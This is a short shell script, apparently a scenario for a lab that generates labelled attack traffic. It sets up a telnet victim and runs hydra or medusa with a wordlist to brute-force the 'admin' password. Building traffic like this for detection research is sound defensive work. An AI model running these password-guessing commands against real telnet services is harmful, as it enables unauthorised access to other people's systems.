# SPDX-License-Identifier: MIT
# label: bruteforce-other
# source: lab-hydra
# needs: hydra medusa busybox
# seconds: 60
# Passwords for telnet.
. $lab/victims.sh

servers() {
	victim_telnet a
	words_up 60
}

scenario() {
	cd "$work" || return
	_tool=$(choose hydra medusa)
	_tasks=$(choose 1 4)
	setting options "$_tool -t $_tasks"
	if [ "$_tool" = hydra ]; then
		attack s a tcp 23 -- timeout 50 hydra -I -t "$_tasks" -l admin \
			-P "$work/words" "$(addr a)" telnet
	else
		attack s a tcp 23 -- timeout 50 medusa -h "$(addr a)" -u admin -P "$work/words" \
			-M telnet \
			-t "$_tasks"
	fi
}
